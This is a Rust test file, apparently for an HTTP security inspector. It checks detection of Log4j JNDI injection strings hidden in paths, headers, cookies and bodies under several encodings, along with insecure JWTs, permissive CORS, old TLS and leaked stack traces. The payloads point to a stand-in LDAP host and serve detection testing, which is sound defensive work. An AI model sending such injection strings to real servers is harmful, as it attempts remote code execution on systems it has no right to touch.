//! Whole exchanges, made up: where attacks stand, what tokens and headers tell.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use bumpalo::Bump;

use super::{Inspector, Kept, Request};
use crate::classify::signals::token_subject;
use crate::domain::{Body, Credential, Exchange, Int, Text, Transfer};

/// The example of RFC 7519 §6.1: `alg` none, `exp` 1300819380.
const UNSECURED: &str = "eyJhbGciOiJub25lIn0.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.";
/// The token that jwt.io showed for years, signed with `your-256-bit-secret`; no `exp`.
const WEAK: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";

fn told(fill: impl FnOnce(&mut Exchange<'_>)) -> Vec<(String, String)> {
    let mut x = Exchange::default();
    fill(&mut x);
    let mut kept = Kept::default();
    Inspector::new().exchange(&x, &mut kept);
    kept.0.into_iter().map(|s| (s.0, s.1)).collect()
}

fn ids(fill: impl FnOnce(&mut Exchange<'_>)) -> Vec<String> {
    told(fill).into_iter().map(|s| s.0).collect()
}

fn token(claims: &str) -> Vec<u8> {
    let part = |t: &str| URL_SAFE_NO_PAD.encode(t);
    format!("Bearer {}.{}.{}", part("{\"alg\":\"RS256\"}"), part(claims), part("not a signature")).into_bytes()
}

#[test]
fn an_attack_is_found_wherever_it_stands() {
    let lookup = b"${jndi:ldap://a.example/x}".as_slice();
    let get = |target, headers| Request { method: "GET", target, headers, body: None };
    let post = |kind: &'static str, body| Request {
        method: "POST",
        target: b"/orders",
        headers: vec![("Content-Type", kind.as_bytes())],
        body: Some(body),
    };
    for (request, location, pointer) in [
        (get(b"/menu/%24%7bjndi:ldap://a.example/x%7d".as_slice(), vec![]), "path", "2"),
        (get(b"/menu?q=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D".as_slice(), vec![]), "query", "q"),
        (get(b"/menu?q=%2524%257Bjndi%253Aldap%253A%252F%252Fa.example%257D".as_slice(), vec![]), "query", "q"),
        (get(b"/menu?q=JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUveH0=".as_slice(), vec![]), "query", "q"),
        (get(b"/menu".as_slice(), vec![("User-Agent", lookup)]), "request-header", "user-agent"),
        (get(b"/menu".as_slice(), vec![("X-Api-Version", lookup)]), "request-header", "x-api-version"),
        (get(b"/menu".as_slice(), vec![("Set-Cookie", lookup)]), "request-header", "set-cookie"),
        (get(b"/menu".as_slice(), vec![("Cookie", b"theme=${jndi:ldap://a.example/x}")]), "cookie", "theme"),
        (get(b"/menu".as_slice(), vec![("Authorization", lookup)]), "request-header", "authorization"),
        (
            post("application/json", br#"{"items":[{"note":"\u0024{jndi:ldap://a.example/x}"}]}"#),
            "request-body",
            "/items/*/note",
        ),
        (
            post("application/x-www-form-urlencoded", b"a=1&note=%24%7Bjndi:ldap://a.example/x%7D"),
            "request-body",
            "note",
        ),
        (
            post(
                "multipart/form-data; boundary=b",
                b"--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n${jndi:ldap://a.example/x}\r\n--b--\r\n",
            ),
            "request-body",
            "note",
        ),
    ] {
        let kept = request.signals(&mut Inspector::new());
        let found = kept.0.iter().find(|s| s.0 == "injection.log4j").map(|s| (s.1.as_str(), s.2.as_str()));
        assert_eq!(found, Some((location, pointer)), "{:?}", kept.0);
    }
}

#[test]
fn what_came_before_changes_nothing() {
    let attack = b"${jndi:ldap://a.example/x}".as_slice();
    let mut used = Inspector::new();
    let both = Request {
        method: "GET",
        target: b"/",
        headers: vec![("X-A", attack), ("X-B", attack), ("User-Agent", b"sqlmap/1")],
        body: None,
    };
    both.signals(&mut used);
    Request { method: "GET", target: b"/", headers: vec![("X-C", b"nikto/2")], body: None }.signals(&mut used);
    for headers in [
        vec![("X-B", attack)],
        vec![("User-Agent", b"sqlmap/1".as_slice())],
        vec![("User-Agent", b"nikto/2".as_slice())],
        vec![("User-Agent", attack)],
    ] {
        let request = Request { method: "GET", target: b"/", headers, body: None };
        let fresh = request.signals(&mut Inspector::new()).0;
        assert!(!fresh.is_empty());
        for _ in 0..3 {
            assert_eq!(request.signals(&mut used).0, fresh);
        }
    }
}

#[test]
fn tokens_tell_on_themselves() {
    let unsecured = format!("Bearer {UNSECURED}");
    let found = ids(|x| x.withhold(Credential::Authorization, Box::leak(unsecured.into_boxed_str()).as_bytes()));
    assert_eq!(found, ["token.alg-none"]);
    let weak = format!("theme=dark; jwt={WEAK}");
    let found = told(|x| x.withhold(Credential::Cookie, Box::leak(weak.into_boxed_str()).as_bytes()));
    let expected = [("token.no-expiry", "cookie"), ("token.weak-hmac", "cookie")];
    assert_eq!(found.iter().map(|s| (s.0.as_str(), s.1.as_str())).collect::<Vec<_>>(), expected);
    let changed = WEAK.replace("SflK", "SflA");
    let found = ids(|x| x.withhold(Credential::Key, Box::leak(changed.into_boxed_str()).as_bytes()));
    assert_eq!(found, ["token.no-expiry"], "another signature is of no listed key");
}

#[test]
fn lives_of_tokens() {
    let seen = |claims: &str, now: i64, status: i64| {
        let value: &'static [u8] = token(claims).leak();
        ids(|x| {
            x.withhold(Credential::Authorization, value);
            x.time = Some(now * 1_000_000);
            x.set_int(Int::Status, status);
        })
    };
    // 1 700 000 000 + a day is 1 700 086 400.
    assert_eq!(seen(r#"{"iat":1700000000,"exp":1700086400}"#, 1_700_000_100, 200), [""; 0]);
    assert_eq!(seen(r#"{"iat":1700000000,"exp":1700086401}"#, 1_700_000_100, 200), ["token.long-life"]);
    assert_eq!(seen(r#"{"iat":1700000000}"#, 1_700_000_100, 200), ["token.no-expiry"]);
    assert_eq!(seen(r#"{"iat":1700000000,"exp":1700003600}"#, 1_700_003_661, 200), ["token.expired-accepted"]);
    assert_eq!(seen(r#"{"iat":1700000000,"exp":1700003600}"#, 1_700_003_660, 200), [""; 0], "a minute is granted");
    assert_eq!(seen(r#"{"iat":1700000000,"exp":1700003600}"#, 1_700_009_999, 401), [""; 0], "it was refused");
}

#[test]
fn credentials_in_addresses_and_basic() {
    let found = ids(|x| {
        x.set(Text::Host, b"api.shop.example");
        x.set(Text::Query, b"page=2&access_token=abcdef");
        x.set(Text::Referer, b"https://other.example/page");
    });
    assert_eq!(found, ["token.in-url", "third-party.referer"]);
    let found = ids(|x| {
        x.set(Text::Host, b"api.shop.example");
        x.set(Text::Query, b"page=2&access_token=abcdef");
        x.set(Text::Referer, b"https://www.shop.example/page");
    });
    assert_eq!(found, ["token.in-url"], "the same site");
    let found = ids(|x| {
        x.set(Text::Scheme, b"http");
        x.withhold(Credential::Authorization, b"Basic dXNlcjpwYXNz");
    });
    assert_eq!(found, ["token.basic", "config.plain-http"]);
    assert!(ids(|x| x.set(Text::Query, b"page=2&token=")).is_empty(), "an empty one is none");
}

#[test]
fn subjects_of_tokens() {
    let of = |kind, value: Vec<u8>| {
        let arena = Bump::new();
        let mut x = Exchange::default();
        x.withhold(kind, arena.alloc_slice_copy(&value));
        token_subject(&x).map(|(c, s)| (c, String::from_utf8(s).unwrap()))
    };
    assert_eq!(of(Credential::Authorization, b"Basic dXNlcjpwYXNz".to_vec()), Some(("basic", "user".into())));
    assert_eq!(of(Credential::Cookie, format!("a=b; t={WEAK}").into_bytes()), Some(("sub", "1234567890".into())));
    let claims = r#"{"name":"n","user":{"id":77},"exp":1}"#;
    assert_eq!(of(Credential::Authorization, token(claims)), Some(("user.id", "77".into())));
    assert_eq!(of(Credential::Authorization, b"Bearer opaque".to_vec()), None);
    assert_eq!(of(Credential::Authorization, token(r#"{"sub":null}"#)), None);
}

#[test]
fn set_up_as_answers_show_it() {
    let answer = |headers: &'static [u8]| {
        ids(|x| {
            x.set(Text::Scheme, b"https");
            x.set(Text::Host, b"api.shop.example");
            x.set(Text::Origin, b"https://evil.example");
            x.set(Text::ResponseContentType, b"application/json");
            x.set_int(Int::Status, 200);
            x.set(Text::ResponseHeaders, headers);
        })
    };
    let good =
        br#"[["Strict-Transport-Security","max-age=1"],["X-Content-Type-Options","nosniff"],["Server","nginx"]]"#;
    assert!(answer(good).is_empty());
    assert_eq!(
        answer(br#"[["Server","nginx/1.18.0"]]"#),
        ["config.no-hsts", "config.no-nosniff", "config.server-version"]
    );
    let open = br#"[["strict-transport-security","m"],["x-content-type-options","nosniff"],["access-control-allow-origin","https://evil.example"],["access-control-allow-credentials","true"]]"#;
    assert_eq!(answer(open), ["config.cors-any"]);
    let public = br#"[["strict-transport-security","m"],["x-content-type-options","nosniff"],["access-control-allow-origin","*"]]"#;
    assert!(answer(public).is_empty(), "* without credentials is a public interface");
    let old = |v: &'static [u8]| ids(|x| x.set(Text::TlsVersion, v));
    assert_eq!(old(b"TLSv1"), ["config.old-tls"]);
    assert_eq!(old(b"TLS 1.1"), ["config.old-tls"]);
    assert!(old(b"TLSv1.2").is_empty() && old(b"TLS 1.3").is_empty());
    let trace = |status| {
        ids(|x| {
            x.set(Text::Method, b"TRACE");
            x.set_int(Int::Status, status);
        })
    };
    assert_eq!((trace(200), trace(405)), (vec!["config.trace-method".into()], vec![]));
}

#[test]
fn errors_that_show_the_inside() {
    let answer = |status, kind: &'static [u8], body: &'static [u8]| {
        ids(|x| {
            x.set_int(Int::Status, status);
            x.set(Text::ResponseContentType, kind);
            x.response_body = Some(Body { raw: body, transfer: Transfer::Plain, complete: true });
        })
    };
    let trace = b"Traceback (most recent call last):\n  File \"app.py\"".as_slice();
    assert_eq!(answer(500, b"text/plain", trace), ["config.stack-trace"]);
    assert_eq!(answer(200, b"text/html", b"You have an error in your SQL syntax; check"), ["config.stack-trace"]);
    assert_eq!(answer(500, b"application/json", br#"{"e":"java.lang.NullPointerException"}"#), ["config.stack-trace"]);
    assert!(answer(200, b"text/html", b"we teach java.lang.String").is_empty());
    assert!(answer(500, b"application/javascript", trace).is_empty());
    assert!(answer(500, b"application/json", br#"{"error":"something went wrong"}"#).is_empty());
}
